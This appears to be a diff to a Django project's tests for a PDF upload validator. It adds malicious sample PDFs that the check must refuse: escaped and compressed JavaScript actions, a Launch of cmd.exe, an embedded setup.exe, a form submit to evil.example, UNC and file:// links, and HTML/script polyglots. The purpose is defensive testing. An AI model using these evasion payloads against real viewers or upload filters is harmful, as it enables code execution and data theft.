@@ -11,12 +11,16 @@ from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.utils import translation
 from PIL import Image as PILImage
+from pypdf import PdfWriter
+from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 from wagtail.documents import get_document_model
 from wagtail.images import get_image_model
 
 from market.uploads import (
     MAX_IMAGE_BYTES,
     MAX_PDF_BYTES,
+    MAX_PDF_OBJECTS,
+    MAX_PDF_PAGES,
     UPLOAD_COLLECTION_NAME,
     check_image,
     check_pdf,
@@ -24,8 +28,9 @@ from market.uploads import (
     store_image,
 )
 from tests.factories import UserFactory
+from tests.factories.files import pdf
 
-PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
+PDF = pdf()
 
 
 @pytest.fixture(autouse=True)
@@ -141,7 +146,7 @@ def test_check_pdf_refuses_a_non_pdf_named_pdf():
 
 
 def test_check_pdf_refuses_an_oversize_pdf():
-    content = PDF[:-6] + b"\n" + b"0" * (MAX_PDF_BYTES + 1) + b"\n%%EOF\n"
+    content = PDF + b"0" * (MAX_PDF_BYTES + 1) + b"\n%%EOF\n"
 
     assert refusal(check_pdf, upload("huge.pdf", content)).code == "pdf_too_big"
 
@@ -151,12 +156,178 @@ def test_check_pdf_refuses_a_truncated_pdf():
 
 
 def test_check_pdf_refuses_a_pdf_with_javascript():
-    active = PDF.replace(
-        b"<< /Type /Catalog >>",
-        b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
-    )
+    active = pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
 
     assert refusal(check_pdf, upload("macro.pdf", active)).code == "active_pdf"
+
+
+def test_check_pdf_accepts_compressed_object_streams_links_and_page_actions():
+    plain = [
+        pdf(compressed=True),
+        pdf(b"/OpenAction [3 0 R /Fit]"),
+        pdf(page=b"/Annots [4 0 R]", objects=[LINK % b"(https://example.cn/a.pdf)"]),
+        pdf(b"/OpenAction << /S /URI /URI (mailto:tt@example.cn) >>"),
+        pdf(b"/AcroForm << /Fields [] >>"),
+    ]
+
+    for number, content in enumerate(plain):
+        check_pdf(upload(f"plain-{number}.pdf", content, "application/pdf"))
+
+
+LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI %s >> >>"
+FILE_SPEC = b"<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>"
+EMBEDDED = b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"
+
+
+# Each of these the old byte scan for /JavaScript, /JS and /Launch let through.
+@pytest.mark.parametrize(
+    ("content", "what"),
+    [
+        # Names with #xx escapes: a viewer reads /JavaScript and /JS.
+        (pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "scripts"),
+        # The same action inside a compressed object stream.
+        (
+            pdf(
+                b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", compressed=True
+            ),
+            "scripts",
+        ),
+        (
+            pdf(page=b"/AA << /O << /S /L#61unch /F (cmd.exe) >> >>", compressed=True),
+            "start other programs",
+        ),
+        (
+            pdf(
+                b"/Names << /EmbeddedFiles << /Names [(setup.exe) 4 0 R] >> >>",
+                objects=[FILE_SPEC, EMBEDDED],
+            ),
+            "embedded files",
+        ),
+        (
+            pdf(
+                page=b"/Annots [4 0 R]",
+                objects=[
+                    b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
+                    b"/FS << /Type /Filespec /F (a.txt) >> >>"
+                ],
+            ),
+            "embedded files",
+        ),
+        (
+            pdf(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
+            "embedded files",
+        ),
+        (
+            pdf(
+                b"/AcroForm << /Fields [] /XFA 4 0 R >>",
+                objects=[b"<< /Length 7 >>\nstream\n<xdp/>\nendstream"],
+            ),
+            "XFA forms",
+        ),
+        (
+            pdf(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
+            "send or load data",
+        ),
+        (pdf(b"/OpenAction << /S /ImportData /F (data.fdf) >>"), "send or load data"),
+        (
+            pdf(
+                b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>"
+            ),
+            "open local files",
+        ),
+        (
+            pdf(page=b"/Annots [4 0 R]", objects=[LINK % b"(javascript:alert(1))"]),
+            "open local files or run scripts",
+        ),
+        (
+            pdf(
+                page=b"/Annots [4 0 R]",
+                objects=[LINK % b"(file:///C:/Windows/calc.exe)"],
+            ),
+            "open local files or run scripts",
+        ),
+    ],
+)
+def test_check_pdf_refuses_active_content_however_it_is_written(content, what):
+    error = refusal(check_pdf, upload("brochure.pdf", content, "application/pdf"))
+
+    assert error.code == "active_pdf"
+    assert what in error.messages[0]
+    assert "Export or print it again as a plain PDF" in error.messages[0]
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        # Not even a web page: a header, then nothing a PDF reader understands.
+        b"%PDF-1.4\n" + b"hello " * 200 + b"\n%%EOF\n",
+        # A cross-reference that points at nothing.
+        b"%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 >>\n"
+        b"startxref\n9\n%%EOF\n",
+        # Arrays nested deeper than any PDF writer produces.
+        pdf(b"/Deep " + b"[" * 3000 + b"]" * 3000),
+    ],
+)
+def test_check_pdf_refuses_what_does_not_parse_as_a_pdf(content):
+    error = refusal(check_pdf, upload("report.pdf", content, "application/pdf"))
+
+    assert error.code == "broken_pdf"
+    assert "cannot be read as a PDF" in error.messages[0]
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        # A web page behind a PDF header: the old check saw the header and %%EOF.
+        b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n"
+        b"%%EOF\n",
+        # A real PDF that a PDF reader accepts, whose first bytes are HTML for a
+        # browser that sniffs content (a polyglot).
+        pdf().replace(
+            b"%PDF-1.7\n", b"%PDF-1.7\n%<html><script>alert(1)</script></html>\n", 1
+        ),
+    ],
+)
+def test_check_pdf_refuses_a_web_page_behind_a_pdf_header(content):
+    error = refusal(check_pdf, upload("report.pdf", content, "application/pdf"))
+
+    assert error.code == "not_pdf"
+    assert "web page" in error.messages[0]
+
+
+def test_check_pdf_checks_pdfs_protected_without_a_password_and_refuses_passwords():
+    def protected(user_password: str, *, script: bool = False) -> bytes:
+        writer = PdfWriter()
+        writer.add_blank_page(200, 200)
+        if script:
+            writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+                {
+                    NameObject("/S"): NameObject("/JavaScript"),
+                    NameObject("/JS"): TextStringObject("app.alert(1)"),
+                }
+            )
+        writer.encrypt(user_password, "owner-secret", algorithm="RC4-128")
+        buffer = io.BytesIO()
+        writer.write(buffer)
+        return buffer.getvalue()
+
+    check_pdf(upload("print-only.pdf", protected("")))
+    password = refusal(check_pdf, upload("secret.pdf", protected("open-me")))
+    script = refusal(check_pdf, upload("p.pdf", protected("", script=True)))
+
+    assert password.code == "encrypted_pdf"
+    assert "password-protected" in password.messages[0]
+    assert script.code == "active_pdf"
+
+
+def test_check_pdf_bounds_its_work_by_pages_and_objects():
+    many_pages = pdf(pages=MAX_PDF_PAGES + 1)
+    many_objects = pdf(objects=[b"null"] * MAX_PDF_OBJECTS)
+
+    for content in (many_pages, many_objects):
+        error = refusal(check_pdf, upload("long.pdf", content, "application/pdf"))
+        assert error.code == "pdf_too_complex"
+        assert f"at most {MAX_PDF_PAGES} pages" in error.messages[0]
 
 
 @pytest.mark.django_db
@@ -185,6 +356,18 @@ def test_store_image_refuses_before_anything_is_written():
         store_image(upload("x.png", b"nope"), title="x", uploaded_by_user_id=None)
 
     assert not get_image_model().objects.exists()
+
+
+@pytest.mark.django_db
+def test_store_document_refuses_a_scripted_pdf_before_anything_is_written():
+    scripted = pdf(
+        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", compressed=True
+    )
+
+    with pytest.raises(ValidationError):
+        store_document(upload("a.pdf", scripted), title="a", uploaded_by_user_id=None)
+
+    assert not get_document_model().objects.exists()
 
 
 @pytest.mark.django_db
